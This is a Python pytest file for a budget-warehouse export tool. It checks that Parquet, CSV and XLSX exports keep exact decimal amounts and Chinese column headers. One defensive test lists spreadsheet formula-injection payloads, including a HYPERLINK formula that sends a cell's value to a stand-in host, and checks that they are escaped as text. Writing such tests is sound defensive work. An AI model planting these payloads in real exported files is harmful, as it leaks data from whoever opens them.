"""`budget export` and the parquet_export asset: the public views as files, amounts exact,
headers from the column comments the warehouse holds.

Over 400 lines: three formats of the same views, each read back by its own library.
"""

import csv
from decimal import Decimal
from pathlib import Path

import dagster as dg
import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook

from assets.export import parquet_export
from assets.reporting import view_metadata
from assets.warehouse import table_schema_of
from pipelines import quality
from pipelines.cli import main
from pipelines.commands.export import WORKBOOK, amount_text, public_views
from pipelines.partitions import budget_document_partitions
from pipelines.resources import DuckDBWarehouse
from pipelines.warehouse import comments, migrations
from pipelines.warehouse.checks import record_check_results
from pipelines.warehouse.comments import chinese_name, relation_columns
from pipelines.warehouse.connection import connect
from pipelines.warehouse.findings import check_rows
from pipelines.warehouse.load import load_document
from pipelines.warehouse.sql_files import read_sql
from tests.warehouse_helpers import SAMPLES, factor, make_extraction, read_doc

SAMPLE_DOCS = [read_doc(p) for p in sorted(SAMPLES.glob("*.json"))]
SUMMARY_TABLES = ("t01_summary", "t04_fiscal_summary")
SEED_DEPARTMENT = "广州市人力资源和社会保障数据服务中心"


def _summary_truth(docs=SAMPLE_DOCS) -> list[tuple]:
    """(department, year, table, side, item, amount_yuan) of every printed summary line."""
    rows = []
    for doc in docs:
        for key in SUMMARY_TABLES:
            for side in ("income", "expenditure"):
                for line in doc["tables"][key][side]:
                    if line.get("amount") is not None:
                        amount = Decimal(line["amount"]) * factor(doc, key)
                        rows.append(
                            (doc["department"], doc["fiscal_year"], key, side, line["item"], amount)
                        )
    return sorted(rows)


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory) -> Path:
    """The four samples' truth documents loaded, with their check results, into one
    warehouse (closed again)."""
    path = tmp_path_factory.mktemp("export") / "budget.duckdb"
    con = connect(path)
    for i, doc in enumerate(SAMPLE_DOCS):
        report = load_document(con, make_extraction(doc, name=f"sample_{i}.pdf"))
        checks = check_rows(quality.run_document_checks(doc))
        record_check_results(con, report.department, report.fiscal_year, checks)
    con.close()
    return path


def export(warehouse: Path, out: Path, fmt: str, *filters: str) -> int:
    return main(
        ["export", "--format", fmt, "--out", str(out), "--warehouse", str(warehouse)]
        + list(filters)
    )


def _csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


# --- column comments: one description, in the catalog -------------------------------------


def test_every_column_of_every_table_and_view_has_a_chinese_named_comment(warehouse):
    con = connect(warehouse, read_only=True)
    try:
        relations = [
            name
            for (name,) in con.execute(
                "select table_name from duckdb_tables() where not internal "
                "union select view_name from duckdb_views() where not internal"
            ).fetchall()
        ]
        assert set(public_views()) <= set(relations)
        for relation in relations:
            columns = relation_columns(con, relation)
            names = [chinese_name(comment) for _, _, comment in columns]
            assert all(names), (relation, [c for c, _, comment in columns if not comment])
            assert len(set(names)) == len(names), relation  # headers tell columns apart
    finally:
        con.close()


def test_dagster_column_descriptions_are_the_comments_and_survive_recreating_views(tmp_path):
    con = connect(tmp_path / "w.duckdb")
    try:
        view_metadata(con, tmp_path / "w.duckdb")  # a batch re-creates every view
        schema = table_schema_of(con, "v_budget_summary")
        described = {c.name: c.description for c in schema.columns}
        assert described["amount_wan"] == (
            "金额（万元） — the amount in 万元 (amount_yuan × 0.0001), exact decimal"
        )
        assert described["department"].startswith("部门 — publishing department")
        table = {c.name: c.description for c in table_schema_of(con, "dim_source_table").columns}
        assert table["kind"] == "表类型 — the standard table key a printed table stands for"
    finally:
        con.close()


def test_a_warehouse_without_comments_is_refused_then_commented_on_its_next_writable_open(
    tmp_path, capsys
):
    path = tmp_path / "old.duckdb"
    con = connect(path)
    con.execute(read_sql("views/v_budget_summary"))  # as an earlier release left it
    con.execute("update schema_version set views_sha256 = 'earlier release'")
    assert relation_columns(con, "v_budget_summary")[0][2] == ""
    con.close()
    assert export(path, tmp_path / "out", "csv") == 1
    err = capsys.readouterr().err.strip()
    assert err == (
        f"budget export: {path}: the views and column comments predate this release; open it "
        "once for writing (e.g. `budget load`) to re-create them"
    )
    connect(path).close()
    con = connect(path, read_only=True)
    assert relation_columns(con, "v_budget_summary")[0][2].startswith("部门 — ")
    con.close()
    assert export(path, tmp_path / "out", "csv") == 0


def test_an_edited_column_description_reaches_an_existing_warehouse(tmp_path, monkeypatch):
    """The descriptions are a seed (data/reference/column_descriptions.csv): the views
    fingerprint covers it, so an edited line is written at the next writable open."""
    path = tmp_path / "w.duckdb"
    connect(path).close()
    seed = tmp_path / "column_descriptions.csv"
    text = comments.DESCRIPTIONS_FILE.read_text(encoding="utf-8")
    seed.write_text(text.replace("level,科目级次,", "level,科目层级,"), encoding="utf-8")
    monkeypatch.setattr(comments, "DESCRIPTIONS_FILE", seed)
    monkeypatch.setattr(migrations, "DESCRIPTIONS_FILE", seed)
    connect(path).close()
    con = connect(path, read_only=True)
    try:
        columns = relation_columns(con, "v_economic_expenditure")
        described = {name: text for name, _, text in columns}
        assert described["level"] == "科目层级 — 1 = 类, 2 = 款, 3 = 项"
    finally:
        con.close()


# --- the three formats ---------------------------------------------------------------------


def test_parquet_keeps_decimal_and_the_exact_summary_values(warehouse, tmp_path):
    assert export(warehouse, tmp_path, "parquet") == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        f"{v}.parquet" for v in public_views()
    )
    path = tmp_path / "v_budget_summary.parquet"
    types = dict(duckdb.sql(f"select column_name, column_type from (describe '{path}')").fetchall())
    assert types["amount_yuan"] == "DECIMAL(22,2)" and types["amount_wan"] == "DECIMAL(24,6)"
    rows = duckdb.sql(
        f"select department, fiscal_year, table_key, side, item, amount_yuan from '{path}'"
    ).fetchall()
    assert sorted(rows) == _summary_truth()
    frame = pd.read_parquet(path)
    assert list(frame.columns)[:3] == ["department", "fiscal_year", "table_key"]
    assert all(isinstance(v, Decimal) for v in frame["amount_yuan"])
    from_pandas = sorted(
        zip(
            frame["department"],
            frame["fiscal_year"],
            frame["table_key"],
            frame["side"],
            frame["item"],
            frame["amount_yuan"],
            strict=True,
        )
    )
    assert from_pandas == _summary_truth()
    comments = dict(
        duckdb.sql(
            f"select decode(key), decode(value) from parquet_kv_metadata('{path}')"
        ).fetchall()
    )
    assert comments["amount_yuan"].startswith("金额（元） — ")


def test_csv_has_chinese_headers_and_amounts_with_their_own_digits(warehouse, tmp_path):
    assert export(warehouse, tmp_path, "csv") == 0
    summary = _csv(tmp_path / "v_budget_summary.csv")
    assert (
        summary[0]
        == (
            "部门 预算年度 表代码 收支方向 项目 是否合计 金额（元） 金额（万元） 预算类型 预决算 "
            "来源页码"
        ).split()
    )
    truth = _summary_truth()
    got = sorted((r[0], int(r[1]), r[2], r[3], r[4], Decimal(r[6])) for r in summary[1:])
    assert got == truth
    for row in summary[1:]:
        yuan, wan = Decimal(row[6]), row[7]
        assert row[6] == format(yuan, "f")  # DECIMAL(22,2) as is: 13004.92
        assert Decimal(wan) == yuan * Decimal("0.0001")
        decimals = wan.split(".")[1]  # two, or more only when they are not trailing zeros
        assert len(decimals) == 2 or (len(decimals) > 2 and not decimals.endswith("0"))
    projects = _csv(tmp_path / "v_project_budget.csv")
    seed_project = [r for r in projects if r[0] == SEED_DEPARTMENT and r[5] == "17738400.00"]
    assert [r[6] for r in seed_project] == ["1773.84"]  # not 1773.840000


def test_the_findings_are_exported_like_the_views_their_figures_exact(warehouse, tmp_path):
    """dq_finding is a public view: the seed's rounding tails, each figure as the checks
    computed it (Parquet DECIMAL(38,10); CSV the decimal's own digits)."""
    docs = {doc["department"]: doc for doc in SAMPLE_DOCS}
    want = sorted(
        (department, name, f.table, f.row, f.column, f.expected_value, f.actual_value,
         f.difference, f.tolerance_value)
        for department, doc in docs.items()
        for name, outcome in quality.run_document_checks(doc).items()
        for f in outcome.findings
    )  # fmt: skip
    assert want  # the seed's tails at least
    assert export(warehouse, tmp_path / "parquet", "parquet") == 0
    path = tmp_path / "parquet" / "dq_finding.parquet"
    types = dict(duckdb.sql(f"select column_name, column_type from (describe '{path}')").fetchall())
    assert {types[c] for c in ("expected", "actual", "difference", "tolerance")} == {
        "DECIMAL(38,10)"
    }
    figures = (
        "department, check_name, table_key, row_label, column_name, expected, actual, "
        "difference, tolerance"
    )
    assert sorted(duckdb.sql(f"select {figures} from '{path}'").fetchall()) == want
    assert export(warehouse, tmp_path / "csv", "csv") == 0
    rows = _csv(tmp_path / "csv" / "dq_finding.csv")
    header = rows[0]
    at = [header.index(name) for name in ("部门", "检查项", "表代码", "行标签", "列名")]
    at += [header.index(name) for name in ("应有数", "实际数", "差额", "容差")]
    got = sorted((*(r[i] for i in at[:5]), *(Decimal(r[i]) for i in at[5:])) for r in rows[1:])
    assert got == want
    assert {r[header.index("差额")] for r in rows[1:]} <= {"-0.01", "0.01"}  # not -0.0100000000


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("1773.840000", "1773.84"),
        ("17.738400", "17.7384"),
        ("0.000100", "0.0001"),
        ("5", "5.00"),
        ("1000.00", "1000.00"),
        ("0E-6", "0.00"),
        ("-2.500000", "-2.50"),
    ],
)
def test_amount_text_keeps_every_digit_and_at_least_two_decimals(value, text):
    assert amount_text(Decimal(value)) == text


def test_xlsx_has_a_sheet_per_view_and_exact_two_decimal_numbers(warehouse, tmp_path):
    assert export(warehouse, tmp_path, "xlsx") == 0
    book = load_workbook(tmp_path / WORKBOOK)
    assert book.sheetnames == public_views()
    sheet = book["v_budget_summary"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]][6:9] == ["金额（元）", "金额（万元）", "预算类型"]
    got = []
    for row in rows[1:]:
        yuan, wan = row[6], row[7]
        assert yuan.number_format == "#,##0.00"
        assert wan.number_format == "#,##0.00####"
        assert isinstance(yuan.value, int | float)
        assert Decimal(str(wan.value)) == Decimal(str(yuan.value)) * Decimal("0.0001")
        got.append(tuple(c.value for c in row[:5]) + (Decimal(str(yuan.value)),))
    assert sorted(got) == _summary_truth()
    assert sheet["B2"].number_format == "General"  # a year is not an amount


# A project name printed so that a spreadsheet would run it: a formula with a live link, a
# leading sign or @. Each name is the t12 row's, read back as the warehouse holds it.
HOSTILE_NAMES = ('=HYPERLINK("http://x.test/?"&B2,"click")', "+1+1", "-2+3", "@SUM(A1)")


def test_a_name_that_looks_like_a_formula_is_written_as_text(tmp_path):
    doc = read_doc()
    rows = doc["tables"]["t12_projects"]["rows"]
    for row, name in zip(rows, HOSTILE_NAMES, strict=False):
        row["name"] = name
    rows[-1]["values"][2] = "-" + rows[-1]["values"][2]  # a negative amount stays a number
    warehouse = tmp_path / "w.duckdb"
    con = connect(warehouse)
    load_document(con, make_extraction(doc))
    con.close()
    assert export(warehouse, tmp_path / "csv", "csv") == 0
    assert export(warehouse, tmp_path / "xlsx", "xlsx") == 0

    names = [name for name, _, _ in _columns(warehouse, "v_project_budget")]
    column, amount = names.index("project_name"), names.index("amount_yuan")
    table = _csv(tmp_path / "csv" / "v_project_budget.csv")
    printed = {row[column] for row in table[1:]}
    assert {"'" + name for name in HOSTILE_NAMES} <= printed  # the usual CSV guard
    assert not printed & set(HOSTILE_NAMES)
    negative = [row[amount] for row in table[1:] if row[amount].startswith("-")]
    assert negative and all(Decimal(text) < 0 for text in negative)

    sheet = load_workbook(tmp_path / "xlsx" / WORKBOOK)["v_project_budget"]
    rows = list(sheet.iter_rows(min_row=2))
    hostile = [row[column] for row in rows if row[column].value in HOSTILE_NAMES]
    assert {c.value for c in hostile} == set(HOSTILE_NAMES)
    assert {c.data_type for c in hostile} == {"s"}  # strings, no formula among them
    assert {row[amount].data_type for row in rows} == {"n"}  # numbers stay numbers
    assert any(row[amount].value < 0 for row in rows)


def _columns(warehouse: Path, view: str) -> list[tuple[str, str, str]]:
    con = connect(warehouse, read_only=True)
    try:
        return relation_columns(con, view)
    finally:
        con.close()


# --- filters and errors --------------------------------------------------------------------


def test_year_and_department_filter_every_view(warehouse, tmp_path):
    assert export(warehouse, tmp_path / "year", "csv", "--year", "2023") == 0
    assert export(warehouse, tmp_path / "dept", "csv", "--department", SEED_DEPARTMENT) == 0
    for view in public_views():
        by_year = _csv(tmp_path / "year" / f"{view}.csv")[1:]
        by_department = _csv(tmp_path / "dept" / f"{view}.csv")[1:]
        # the samples print the standard twelve tables only, and no final accounts
        if view in ("v_other_table", "v_budget_vs_actual"):
            assert by_year == by_department == [], view
            continue
        assert by_year and {r[1] for r in by_year} == {"2023"}, view
        assert by_department and {r[0] for r in by_department} == {SEED_DEPARTMENT}, view
    seed = [d for d in SAMPLE_DOCS if d["department"] == SEED_DEPARTMENT]
    summary = _csv(tmp_path / "year" / "v_budget_summary.csv")[1:]
    assert sorted((r[0], int(r[1]), r[2], r[3], r[4], Decimal(r[6])) for r in summary) == (
        _summary_truth(seed)
    )


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        (
            ["--department", "广州市教育局"],
            "no department '广州市教育局' in the warehouse; near: 广州市示范区教育局",
        ),
        (
            ["--year", "2030"],
            "no document for fiscal year 2030; years loaded: 2022, 2023, 2024, 2025",
        ),
        (
            ["--year", "2024", "--department", SEED_DEPARTMENT],
            f"no document of {SEED_DEPARTMENT} for fiscal year 2024; years loaded: 2023",
        ),
    ],
)
def test_unknown_filters_are_one_line_naming_what_there_is(
    warehouse, tmp_path, capsys, filters, message
):
    assert export(warehouse, tmp_path, "csv", *filters) == 1
    assert capsys.readouterr().err == f"budget export: {message}\n"
    assert not list(tmp_path.iterdir())


def test_no_warehouse_and_an_unwritable_folder_are_one_line(warehouse, tmp_path, capsys):
    assert export(tmp_path / "none.duckdb", tmp_path / "out", "csv") == 1
    assert capsys.readouterr().err == (
        f"budget export: no warehouse at {tmp_path / 'none.duckdb'} (load documents first, or "
        "pass --warehouse)\n"
    )
    blocker = tmp_path / "a_file"
    blocker.write_text("not a folder")
    assert export(warehouse, blocker / "out", "csv") == 1
    assert capsys.readouterr().err == (
        f"budget export: cannot write to {blocker / 'out'}: Not a directory\n"
    )


# --- the Dagster asset ---------------------------------------------------------------------


def test_parquet_export_materialises_in_process(warehouse, tmp_path):
    # Entered, so Dagster's definitions state storage is this live instance's, never one a
    # previous test left behind.
    with dg.instance_for_test() as instance:
        result = dg.materialize(
            [parquet_export],
            instance=instance,
            resources={"warehouse": DuckDBWarehouse(path=str(warehouse))},
            run_config={"ops": {"parquet_export": {"config": {"folder": str(tmp_path)}}}},
        )
    assert result.success
    (materialization,) = result.asset_materializations_for_node("parquet_export")
    (rows,) = duckdb.sql(f"select count(*) from '{tmp_path}/*.parquet'").fetchall()[0]
    assert materialization.metadata["dagster/row_count"].value == rows
    summary = duckdb.sql(
        f"select department, fiscal_year, table_key, side, item, amount_yuan "
        f"from '{tmp_path / 'v_budget_summary.parquet'}'"
    ).fetchall()
    assert sorted(summary) == _summary_truth()


def test_a_load_recorded_in_the_instance_requests_the_export_once():
    defs = dg.Definitions(
        assets=[
            parquet_export,
            *[dg.AssetSpec(v, partitions_def=budget_document_partitions) for v in public_views()],
        ],
        resources={"warehouse": DuckDBWarehouse()},
    )
    with dg.instance_for_test() as instance:
        first = dg.evaluate_automation_conditions(defs=defs, instance=instance)
        instance.add_dynamic_partitions(budget_document_partitions.name, ["2023|a", "2024|b"])
        instance.report_runless_asset_event(
            dg.AssetMaterialization("v_budget_summary", partition="2023|a")
        )
        after_load = dg.evaluate_automation_conditions(
            defs=defs, instance=instance, cursor=first.cursor
        )
        assert after_load.total_requested == 1
        again = dg.evaluate_automation_conditions(
            defs=defs, instance=instance, cursor=after_load.cursor
        )
        assert again.total_requested == 0


def test_a_refresh_replaces_the_files_and_leaves_no_temporary_file(warehouse, tmp_path):
    assert export(warehouse, tmp_path, "parquet") == 0
    assert export(warehouse, tmp_path, "parquet") == 0  # a refresh replaces in place
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        f"{v}.parquet" for v in public_views()
    )
